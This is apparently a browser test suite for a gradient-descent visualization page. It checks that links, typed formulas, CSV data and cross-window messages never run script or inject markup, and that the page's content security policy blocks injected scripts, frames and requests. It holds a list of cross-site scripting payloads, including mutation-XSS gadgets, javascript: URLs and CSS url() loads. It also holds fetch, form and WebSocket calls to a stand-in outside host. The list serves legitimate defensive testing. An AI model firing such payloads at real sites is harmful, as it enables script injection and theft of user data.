// What comes from outside stays text: links, functions, lists of points and messages run nothing and build nothing. And the
// policy of the page holds by itself, were something to get through.

import assert from "node:assert/strict";
import { labReady } from "./lib/browser.mjs";
import { pageTest } from "./lib/harness.mjs";

const id = (name) => `[data-testid=${name}]`;
const RACE = "#v=1&surface=rosenbrock&run=adam:lr=0.05";
/** What would set the flag if it were taken as markup, as an address, as a script or as a style. */
const HOSTILE = [
  `<img src=x onerror="window.harmed=1">`,
  `<img/src=x onerror=window.harmed=1>`,
  `"><script>window.harmed=1</script>`,
  `'><svg onload=window.harmed=1>`,
  `<svg><style><img src=x onerror=window.harmed=1></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<a href="javascript:window.harmed=1" autofocus onfocus="window.harmed=1">a</a>`,
  `javascript:window.harmed=1//`,
  `" onmouseover="window.harmed=1" autofocus onfocus="window.harmed=1`,
  `</title></textarea></style></noscript><img src=x onerror=window.harmed=1>`,
  `);window.harmed=1;//`,
  "${window.harmed=1}",
  `url(https://elsewhere.invalid/x.png)`,
  `red;background:url(https://elsewhere.invalid/x.png)`,
  `__proto__`,
  `constructor`,
  `\u0000\u202e\ud800<b>`,
];
const WORDS = [
  "v", "surface", "f", "transform", "problem", "network", "data", "formula", "points", "show", "start", "steps", "seed", "noise",
  "noise_of", "run", "edit", "view", "step", "speed", "chart", "axis", "slice", "slice_zoom", "singular", "overlays", "map", "levels",
  "labels", "space", "height", "camera", "fan", "theme", "autoplay", "motion", "hide", "lock", "ahead", "controls", "lang", "check", "",
  "__proto__", "constructor", "toString",
]; // prettier-ignore
/** Where a link has names and values inside its words. */
const WITHIN = [
  (text) => `run=${text}:lr=1`,
  (text) => `run=adam:${text}=1`,
  (text) => `run=adam:lr=${text}`,
  (text) => `run=adam:lr=0.05,schedule=${text}(t_max=5)`,
  (text) => `run=adam:lr=0.05,schedule=cosine(${text}=5)`,
  (text) => `surface=${text}(a=1)`,
  (text) => `surface=custom(${text}=1)&f=${text}`,
  (text) => `surface=rosenbrock(b=${text})`,
  (text) => `network=8(${text}=relu)`,
  (text) => `network=${text}`,
  (text) => `data=${text}(n=100)`,
  (text) => `data=formula&formula=${text}`,
  (text) => `edit=1@5:${text}=1`,
  (text) => `${text}=1`,
];

/** What is in the page that a text from outside could have put there. */
const injected = (page) =>
  page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const attributes = all.flatMap((element) =>
      [...element.attributes]
        .filter(({ name, value }) => /^on/i.test(name) || /^\s*javascript:/i.test(value) || /elsewhere\.invalid/.test(name))
        .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
    );
    const foreign = all.filter((element) => element.matches("script, iframe, object, embed, base, meta, frame, img[src=x], form, link"));
    const styled = all.filter((element) => /elsewhere/.test(element.getAttribute("style") ?? ""));
    const extra = Object.keys(Object.prototype);
    return { attributes, styled: styled.map((e) => e.outerHTML), foreign: foreign.map((e) => e.tagName), extra, harmed: window.harmed };
  });

/** Fails if anything ran, was built, or asked for, since the page was opened. */
async function watch(page) {
  const dialogs = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss();
  });
  const before = await injected(page);
  assert.deepEqual(before.attributes, []);
  return async (what) => {
    assert.deepEqual(await injected(page), before, what);
    assert.deepEqual(dialogs, [], what);
  };
}

/** Gives a link to the open page, as if it were pasted over the address, and waits until it is read and drawn. */
const paste = (page, link) =>
  page.evaluate(async (link) => {
    location.hash = link;
    await new Promise((done) => setTimeout(done, 0));
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
  }, link);

const written = (text) => encodeURIComponent(text.toWellFormed());

pageTest("links with markup and scripts in every word run nothing and build nothing", { withoutPolicy: true, timeout: 240_000 }, async ({ page, open }) => {
  await open(RACE);
  await labReady(page);
  const unharmed = await watch(page);
  for (const text of HOSTILE) {
    const value = written(text);
    const words = WORDS.map((word) => `${word}=${value}`);
    // All words at once, each place within one, and the text as it is.
    for (const link of [words.join("&"), ...WITHIN.map((within) => within(value)), words.map((w) => decodeURIComponent(w)).join("&")]) {
      await paste(page, `#v=1&${link}`);
    }
    await unharmed(text);
  }
  await paste(page, `#v=1&surface=${written(HOSTILE[0])}`);
  await page.waitForFunction((text) => document.body.innerText.includes(text), "<img src=x");
  // What is looked for is found.
  await page.evaluate(() => document.querySelector("main").setAttribute("onclick", "1"));
  await assert.rejects(unharmed());
  // The page lives.
  await paste(page, RACE);
  await page.locator(id("play")).click();
  await page.waitForFunction(() => Number(document.querySelector("[data-testid=step] b").textContent) > 5);
});

pageTest("a page that is opened with a hostile link is as safe", { withoutPolicy: true }, async ({ page, open }) => {
  await page.addInitScript(() => addEventListener("error", (event) => console.error("error:", event.message)));
  for (const text of HOSTILE.slice(0, 4)) {
    await open(`#v=1&${WORDS.map((word) => `${word}=${written(text)}`).join("&")}`);
    await labReady(page);
    const found = await injected(page);
    assert.equal(found.harmed, undefined);
    assert.deepEqual(found.attributes, []);
    assert.ok(!found.foreign.includes("IFRAME") && !found.foreign.includes("IMG"), text);
  }
});

pageTest("typed functions run nothing and build nothing", { withoutPolicy: true }, async ({ page, open }) => {
  await open("#v=1&surface=custom&f=x^2+y^2&run=sgd:lr=0.1");
  await labReady(page);
  const field = page.locator(id("function"));
  const unharmed = await watch(page);
  for (const text of [...HOSTILE, "alert(1)", "eval(x)", "constructor(x)", "x.constructor", "window", "x^2 /* */ + y", "`x`"]) {
    await field.fill(text);
    assert.equal(await field.inputValue(), text.toWellFormed().replaceAll("\u0000", "\u0000"), "nothing is cut out of what was typed");
    await unharmed(text);
  }
  assert.ok((await page.locator(id("function-said")).textContent()).length > 0, "the last one is refused with a message");
});

pageTest("lists of points run nothing and build nothing", { withoutPolicy: true }, async ({ page, open }) => {
  await open("#v=1&network=4&data=circle(n=50)&steps=20&run=sgd:lr=0.1&step=0");
  await labReady(page);
  await page.locator(`${id("net-csv-part")} > summary`).click();
  const unharmed = await watch(page);
  for (const text of HOSTILE) {
    const quoted = text.replaceAll('"', '""');
    await page.locator(id("net-csv")).fill(`x,y,"${quoted}"\n1,2,"${quoted}"\n${text}\n0,1,b`);
    await page.locator(id("net-csv-use")).click();
    await unharmed(text);
    const name = text.replaceAll(/[/\u0000\ud800]/g, "_");
    await page.locator(id("net-csv-open")).setInputFiles({ name: `${name}.csv`, mimeType: "text/csv", buffer: Buffer.from(`${text},1,2\n`) });
    await unharmed(`a file named ${name}`);
  }
});

/** Messages of every kind that there is, and of none, with hostile contents, from this window to another. */
async function flood(hostile, toFrame) {
  const to = toFrame ? frames[0] : window;
  const kinds = ["setLink", "play", "pause", "step", "seek", "reset", "getLink", "ready", "resize", "constructor", "__proto__", "toString", "x"];
  const send = (message) => to.postMessage(message, "*");
  for (const text of hostile) {
    send(text);
    for (const type of kinds) {
      for (const value of [text, [text], { toString: text }, { text }, Number.NaN, -1, 1e300, null, undefined]) {
        const message = { type, link: value, step: value, by: value, id: value };
        for (const version of [1, "1", 2, text]) send({ "descent-lab": version, ...message });
        send({ "descent-lab": 1, type: value, link: text });
        send(JSON.stringify({ "descent-lab": 1, ...message }));
      }
      send({ "descent-lab": 1, type, link: `#v=1&surface=${encodeURIComponent(text)}&run=${encodeURIComponent(text)}:lr=1` });
    }
  }
  const ring = { "descent-lab": 1, type: "setLink" };
  ring.link = ring;
  const odd = [ring, null, undefined, 0, true, new Map([["descent-lab", 1]]), new Date(), /x/, new ArrayBuffer(8), [[[[]]]], "x".repeat(1e6)];
  for (const message of odd) send(message);
  send({ "descent-lab": 1, type: "setLink", link: `v=1&f=${"(".repeat(1e6)}` });
  await new Promise((done) => setTimeout(done, 500));
}

for (const [whence, framed] of [
  ["the page itself", false],
  ["the page that holds the frame", true],
]) {
  pageTest(`messages of any kind from ${whence} run nothing, build nothing, and stop nothing`, { withoutPolicy: true, allow: [/favicon\.ico/] }, async ({ page, open, url }) => {
    let ours = page;
    if (framed) {
      await page.goto(`${url}worker.js`); // any page of the same host, which may not come from nowhere
      await page.setContent(`<title>A host</title><iframe src="${url}${RACE.replaceAll("&", "&amp;")}&amp;embed=1" width="800" height="600"></iframe>`);
      [, ours] = page.frames();
      await ours.waitForURL(/adam/, { waitUntil: "commit" });
    } else {
      await open(RACE);
    }
    await labReady(ours);
    const before = await injected(ours);
    const dialogs = [];
    page.on("dialog", (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
    const hostile = HOSTILE.map((text) => text.toWellFormed());
    await page.evaluate(`(${flood})(${JSON.stringify(hostile)}, ${framed})`);
    assert.deepEqual(await injected(ours), before);
    assert.equal(await page.evaluate(() => window.harmed), undefined);
    assert.deepEqual(dialogs, []);
    await ours.evaluate((link) => (location.hash = link), `${RACE}&embed=1`);
    await ours.waitForFunction(() => document.querySelector("[data-testid=step] b"));
    await ours.locator(id("play")).click();
    await ours.waitForFunction(() => Number(document.querySelector("[data-testid=step] b").textContent) > 5);
  });
}

pageTest("the policy stops scripts, styles, requests and frames that get into the page", { allow: [/Content Security Policy/, /elsewhere\.invalid/] }, async ({ page, open }) => {
  await open(RACE);
  await labReady(page);
  const broken = await page.evaluate(async () => {
    const broken = [];
    document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
    const add = (tag, fields, parent = document.body) => {
      const element = Object.assign(document.createElement(tag), fields);
      parent.append(element);
      return element;
    };
    add("script", { textContent: "window.harmed = 1" });
    add("script", { src: "data:text/javascript,window.harmed=1" });
    add("script", { src: "https://elsewhere.invalid/x.js" });
    add("div", {}).setAttribute("onclick", "window.harmed = 1");
    document.body.lastElementChild.click();
    add("a", { href: "javascript:window.harmed=1" }).click();
    add("style", { textContent: "body { display: none }" });
    add("div", {}).setAttribute("style", "background: url(https://elsewhere.invalid/x.png)");
    add("img", { src: "https://elsewhere.invalid/x.png" });
    add("iframe", { src: "https://elsewhere.invalid/" });
    add("object", { data: "https://elsewhere.invalid/" });
    add("base", { href: "https://elsewhere.invalid/" }, document.head);
    add("form", { action: "https://elsewhere.invalid/" }).submit();
    await fetch("https://elsewhere.invalid/?all=settings").catch(() => {});
    try {
      new WebSocket("wss://elsewhere.invalid/");
    } catch {
      // some browsers throw
    }
    await new Promise((done) => setTimeout(done, 300));
    return [...new Set(broken)].sort();
  });
  assert.equal(await page.evaluate(() => window.harmed), undefined);
  const wanted = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem"];
  assert.deepEqual(broken, wanted);
});

pageTest("nothing is kept about the visitor, and the refusal of storage changes nothing", {}, async ({ page, open }) => {
  await page.addInitScript(() => {
    for (const name of ["localStorage", "sessionStorage", "indexedDB", "caches"]) {
      Object.defineProperty(globalThis, name, {
        get() {
          throw new DOMException(`${name} is refused`, "SecurityError");
        },
      });
    }
    Object.defineProperty(Document.prototype, "cookie", {
      get() {
        throw new DOMException("cookies are refused", "SecurityError");
      },
      set() {
        throw new DOMException("cookies are refused", "SecurityError");
      },
    });
  });
  await open(RACE);
  await labReady(page);
  await page.locator(id("play")).click();
  await page.waitForFunction(() => Number(document.querySelector("[data-testid=step] b").textContent) > 5);
  assert.deepEqual(await page.context().cookies(), []);
});
